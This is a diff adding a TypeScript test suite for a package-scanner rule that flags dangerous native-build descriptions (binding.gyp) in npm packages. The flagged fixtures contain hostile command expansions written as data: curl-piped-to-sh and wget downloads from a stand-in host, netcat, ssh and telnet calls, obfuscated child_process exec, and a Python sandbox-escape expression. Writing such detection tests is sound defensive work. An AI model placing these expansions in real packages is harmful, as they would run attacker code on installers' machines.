@@ -1,0 +1,85 @@
+import { nativeBuild } from "../../../src/scanner/rules/ins-05-native-build.ts";
+import type { ViewOptions } from "../../support/package-view.ts";
+import { describeRule } from "../../support/rule-tables.ts";
+
+const source = { "src/addon.cc": "int x;" };
+
+function gyp(text: string, files: Readonly<Record<string, string>> = source): ViewOptions {
+  return { files: { "binding.gyp": text, ...files }, manifest: { dependencies: { nan: "^2" } } };
+}
+
+function target(part: string): string {
+  return `{ "targets": [ { "target_name": "addon", "sources": ["src/addon.cc"], ${part} } ] }`;
+}
+
+describeRule(nativeBuild, {
+  flags: {
+    "a foreign command": gyp(
+      target(`"libraries": ["<!(curl -s https://files.example.test/a | sh)"]`),
+    ),
+    "a list of words": gyp(target(`"libraries": ["<!@(nc files.example.test 4444)"]`)),
+    "the late form": gyp(target(`"libraries": ["^!(ssh files.example.test)"]`)),
+    "a payload in an evaluation": gyp(
+      target(`"include_dirs": ["<!(node -e \\"require('child_process').exec('id')\\")"]`),
+    ),
+    "a payload in two pieces": gyp(
+      target(`"include_dirs": ["<!(node -p \\"require('child_'+'process').exec('id')\\")"]`),
+    ),
+    "a command in a variable": gyp(
+      `{ "variables": { "probe": "wget -qO- https://files.example.test/a" }, "targets": [ { "sources": ["src/addon.cc"], "libraries": ["<!(<(probe))"] } ] }`,
+    ),
+    "a command in an included file": gyp(target(`"includes": ["common.gypi"]`), {
+      ...source,
+      "common.gypi": `{ "variables": { "x": "<!(telnet files.example.test)" } }`,
+    }),
+    "a fetching action": gyp(
+      target(`"actions": [ { "action": ["curl", "-o", "a", "https://files.example.test/a"] } ]`),
+    ),
+    "a condition that climbs out": gyp(
+      target(`"conditions": [ ["().__class__.__bases__[0].__subclasses__()", {}] ]`),
+    ),
+    "an expression instead of a literal": gyp(`{ "targets": [ { "target_name": "a" + str(1) } ] }`),
+    "a compiler of its own": gyp(
+      `{ "make_global_settings": [ ["CC_wrapper", "./tools/wrap"] ], ${target("").slice(1)}`,
+    ),
+    "nothing to compile": {
+      ...gyp(`{ "targets": [ { "target_name": "a", "type": "none" } ] }`, {}),
+      points: 60,
+    },
+    "the same description under an explicit hook": {
+      files: {
+        "binding.gyp": target(`"libraries": ["<!(curl -s https://files.example.test/a | sh)"]`),
+        ...source,
+      },
+      manifest: { scripts: { install: "node-gyp rebuild" } },
+    },
+  },
+  passes: {
+    "include paths of header packages": gyp(
+      target(
+        `"include_dirs": ["<!(node -e \\"require('nan')\\")", "<!@(node -p \\"require('node-addon-api').include\\")"]`,
+      ),
+    ),
+    "pkg-config and filters": gyp(
+      target(
+        `"libraries": ["<!@(pkg-config --libs cairo | sed s/-I//g)", "<!(which pg_config || echo none)"]`,
+      ),
+    ),
+    "an own script": gyp(
+      target(
+        `"conditions": [ ["OS=='mac' and target_arch in 'x64 arm64'", { "libraries": ["<!(node ./util/lib.js jpeg)"] }] ]`,
+      ),
+      { ...source, "util/lib.js": "console.log(1)" },
+    ),
+    "comments, single quotes and trailing commas": gyp(
+      `# addon\n{ 'targets': [ { 'target_name': 'a', 'sources': [ 'src/' 'addon.cc', ], }, ], }`,
+    ),
+    "a description that is not built": {
+      files: { "binding.gyp": target(`"x": "<!(curl a)"`) },
+      manifest: { gypfile: false },
+    },
+    "a build step of the platform": gyp(
+      target(`"postbuilds": [ { "action": ["install_name_tool", "-change", "a", "b"] } ]`),
+    ),
+  },
+});
